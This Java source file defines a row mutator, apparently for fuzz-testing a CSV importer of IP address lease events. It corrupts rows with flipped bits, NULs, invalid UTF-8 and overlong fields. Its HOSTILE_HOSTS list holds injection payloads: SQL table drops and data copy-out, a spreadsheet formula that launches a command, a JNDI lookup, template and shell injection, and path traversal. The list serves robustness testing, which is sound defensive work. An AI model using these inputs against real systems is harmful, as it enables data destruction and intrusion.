package ipam.sample;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.SplittableRandom;

/** The ways a {@link Mutator} damages a row. */
public enum Damage {
    /** The row as it was. */
    NONE,
    /** One to eight bits turned over. */
    BITS_FLIPPED,
    /** One to five fields left out. */
    FIELDS_DROPPED,
    /** Up to forty commas too many. */
    FIELDS_ADDED,
    /** The row ends somewhere. */
    CUT,
    /** One to four hundred NULs, as a file system leaves them after a power failure. */
    NULS,
    /** Bytes that are no UTF-8: lone continuations, overlong forms, surrogates, beyond U+10FFFF. */
    INVALID_UTF8,
    /** A field in quotes, perhaps with a comma or a quote in it. */
    QUOTES,
    /** SQL, formulas, paths, format strings or markup as a host name. */
    HOSTILE_HOST,
    /** A field of digits, signs and exponents that fits no number. */
    NUMBER,
    /** A date or time that no clock shows. */
    TIME,
    /** A host name of 60 KiB to 3 MiB. */
    OVERLONG;

    /** Host names that do harm where text becomes code. */
    public static final List<String> HOSTILE_HOSTS = List.of(
            "'; DROP TABLE lease_event; --",
            "' OR '1'='1",
            "\"; ATTACH 'other.duckdb' AS x; --",
            "'); COPY lease_event TO 'stolen.csv'; --",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.test\";\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "${jndi:ldap://example.test/a}",
            "#{7*7}",
            "{{7*7}}",
            "%s%n%x",
            "../../../etc/passwd",
            "C:\\Windows\\System32",
            "`touch x`",
            "$(touch x)",
            "a;b|c&d",
            "<script>alert(1)</script>",
            "&lt;b&gt;",
            "\u202Egpj.exe",
            "\uD83D\uDCBB.contoso.test",
            "e\u0301\u0323",
            "\u0130stanbul",
            "NULL",
            "-",
            " ",
            "PC\\x00\\u0000",
            "\u001B[31mred");

    private static final byte[][] NO_UTF8 = {
        {(byte) 0x80},
        {(byte) 0xC0, (byte) 0xAF},
        {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
        {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
        {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
        {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
        {(byte) 0xFF, (byte) 0xFE},
        {(byte) 0xC3}
    };
    private static final List<String> NUMBERS = List.of(
            "99999999999999999999", "-1", "+5", "0x10", "1e9", "4294967296", "9223372036854775808", "NaN", "٣", " 6 ");
    private static final List<String> TIMES = List.of(
            "00/00/00",
            "13/45/26",
            "02/30/24",
            "1/2/26",
            "2026-10-26",
            "25:61:61",
            "24:00:00",
            "12:00",
            "--:--:--",
            "");
    private static final int HOST = 5;

    byte[] apply(byte[] row, SplittableRandom random) {
        return switch (this) {
            case NONE -> row;
            case BITS_FLIPPED -> flip(row.clone(), random);
            case FIELDS_DROPPED -> dropped(row, random);
            case FIELDS_ADDED -> spliced(row, random.nextInt(row.length), commas(1 + random.nextInt(40)));
            case CUT -> Arrays.copyOf(row, 1 + random.nextInt(row.length));
            case NULS -> spliced(row, random.nextInt(row.length), new byte[1 + random.nextInt(400)]);
            case INVALID_UTF8 -> spliced(row, random.nextInt(row.length), NO_UTF8[random.nextInt(NO_UTF8.length)]);
            case QUOTES -> quoted(row, random);
            case HOSTILE_HOST -> replaced(row, HOST, pick(HOSTILE_HOSTS, random));
            case NUMBER -> replaced(row, numberField(random), pick(NUMBERS, random));
            case TIME -> replaced(row, 1 + random.nextInt(2), pick(TIMES, random));
            case OVERLONG -> replaced(row, HOST, "A".repeat(60_000 + random.nextInt(3 << 20)));
        };
    }

    private static byte[] flip(byte[] row, SplittableRandom random) {
        for (int left = 1 + random.nextInt(8); left > 0; left--) {
            row[random.nextInt(row.length)] ^= (byte) (1 << random.nextInt(8));
        }
        return row;
    }

    private static byte[] dropped(byte[] row, SplittableRandom random) {
        String text = new String(row, StandardCharsets.ISO_8859_1);
        for (int left = 1 + random.nextInt(5); left > 0; left--) {
            String[] fields = text.split(",", -1);
            fields[random.nextInt(fields.length)] = "\n";
            text = String.join(",", fields)
                    .replace("\n,", "")
                    .replace(",\n", "")
                    .replace("\n", "");
        }
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] quoted(byte[] row, SplittableRandom random) {
        String inside = pick(List.of("%s", "%s,x", "%s\"\"y", "\"%s"), random);
        String[] fields = new String(row, StandardCharsets.ISO_8859_1).split(",", -1);
        int field = random.nextInt(fields.length);
        return replaced(row, field, "\"" + inside.replace("%s", fields[field]) + "\"");
    }

    private static byte[] replaced(byte[] row, int field, String text) {
        String[] fields = new String(row, StandardCharsets.ISO_8859_1).split(",", -1);
        int from = 0;
        for (int i = 0; i < Math.min(field, fields.length - 1); i++) {
            from += fields[i].length() + 1;
        }
        int to = from + fields[Math.min(field, fields.length - 1)].length();
        byte[] head = Arrays.copyOf(row, from);
        byte[] tail = Arrays.copyOfRange(row, to, row.length);
        return joined(head, text.getBytes(StandardCharsets.UTF_8), tail);
    }

    private static byte[] spliced(byte[] row, int at, byte[] piece) {
        return joined(Arrays.copyOf(row, at), piece, Arrays.copyOfRange(row, at, row.length));
    }

    private static byte[] joined(byte[] head, byte[] piece, byte[] tail) {
        byte[] whole = Arrays.copyOf(head, head.length + piece.length + tail.length);
        System.arraycopy(piece, 0, whole, head.length, piece.length);
        System.arraycopy(tail, 0, whole, head.length + piece.length, tail.length);
        return whole;
    }

    private static byte[] commas(int count) {
        byte[] commas = new byte[count];
        Arrays.fill(commas, (byte) ',');
        return commas;
    }

    private static int numberField(SplittableRandom random) {
        int[] fields = {0, 8, 9, 18, 7};
        return fields[random.nextInt(fields.length)];
    }

    private static String pick(List<String> texts, SplittableRandom random) {
        return texts.get(random.nextInt(texts.size()));
    }
}
